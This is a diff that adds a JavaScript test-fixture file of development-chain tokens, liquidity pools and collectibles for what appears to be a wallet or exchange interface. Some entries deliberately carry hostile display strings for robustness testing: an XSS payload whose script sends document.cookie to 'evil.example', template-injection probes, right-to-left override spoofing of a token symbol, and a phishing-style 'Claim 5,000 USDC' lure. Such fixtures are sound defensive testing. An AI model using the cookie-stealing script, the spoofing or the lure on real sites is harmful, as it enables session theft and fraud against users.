@@ -1,0 +1,103 @@
+/** Written from right to left from here on, where it is not stopped. */
+const BIDI = '\u202E'
+/** Two hundred characters that would be markup, a bidi trick and a link, were they anything but text. */
+const HOSTILE_NAME =
+  `<img src=x onerror="alert(1)">${BIDI}<script>fetch('https://evil.example/'+document.cookie)</script>${'\u200B'}"'\`\${7*7}{{7*7}}javascript:alert(1)//`.padEnd(
+    200,
+    'A',
+  )
+
+const ether = 10n ** 18n
+
+/**
+ * The tokens of the development chains. `holders` is what each account of the chain gets, `pool` what lies beside how
+ * many ether; both in smallest units. An ether costs 2,500 dollars there.
+ */
+export const marketTokens = [
+  {
+    id: 'oak',
+    contract: 'Token',
+    name: 'Oak',
+    symbol: 'OAK',
+    decimals: 18,
+    holders: 1_000n * ether,
+    pool: { token: 100_000n * ether, ether: 200n * ether },
+  },
+  {
+    id: 'dollar',
+    contract: 'Token',
+    name: 'Garden Dollar',
+    symbol: 'GUSD',
+    decimals: 18,
+    holders: 10_000n * ether,
+    pool: { token: 2_500_000n * ether, ether: 1_000n * ether },
+  },
+  {
+    id: 'old',
+    contract: 'OldToken',
+    name: 'Old Dollar',
+    symbol: 'OLDUSD',
+    decimals: 6,
+    holders: 10_000n * 10n ** 6n,
+    pool: { token: 1_000_000n * 10n ** 6n, ether: 400n * ether },
+  },
+  {
+    id: 'ticket',
+    contract: 'Token',
+    name: 'Ticket',
+    symbol: 'TICKET',
+    decimals: 0,
+    holders: 100n,
+    pool: { token: 10_000n, ether: 100n * ether },
+  },
+  {
+    id: 'toll',
+    contract: 'TollToken',
+    name: 'Toll',
+    symbol: 'TOLL',
+    decimals: 18,
+    holders: 10_000n * ether,
+    pool: { token: 1_000_000n * ether, ether: 200n * ether },
+  },
+  {
+    id: 'hostile',
+    contract: 'Token',
+    name: HOSTILE_NAME,
+    symbol: `<b>${BIDI}DSUG</b>`,
+    decimals: 18,
+    holders: 1_000_000n * ether,
+    pool: { token: 10_000_000n * ether, ether: 40n * ether },
+  },
+]
+
+/**
+ * Pools without ether: one is small and a little cheaper than the way over ether, so that the better way depends on
+ * the amount.
+ */
+export const directPools = [
+  { a: 'oak', b: 'dollar', amountA: 2_000n * ether, amountB: 10_100n * ether },
+  { a: 'dollar', b: 'old', amountA: 50_000n * ether, amountB: 50_000n * 10n ** 6n },
+]
+
+/** What the collectibles say they are; the last edition is of the kind that nobody asked for. */
+export const collectibles = [
+  { id: 1n, uri: described('Pebble #1', '#7a8b99') },
+  { id: 2n, uri: described('Pebble #2', '#b8a48c') },
+  { id: 3n, uri: described(`Pebble <b>#3</b>${BIDI}`, '#5d6b57') },
+]
+
+/** The editions: how many the first account gets, and what they say. */
+export const editions = [
+  { id: 1n, count: 5n, uri: described('Acorn', '#8a5a2b') },
+  { id: 2n, count: 1n, uri: described('Claim 5,000 USDC at https://claim-reward.example', '#c0392b') },
+]
+
+function described(name, colour) {
+  const image = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><circle cx="4" cy="4" r="3" fill="${colour}"/></svg>`
+  const description = 'Of a development chain: worth nothing.'
+  return dataUri('application/json', JSON.stringify({ name, description, image: dataUri('image/svg+xml', image) }))
+}
+
+function dataUri(type, text) {
+  return `data:${type};base64,${Buffer.from(text).toString('base64')}`
+}
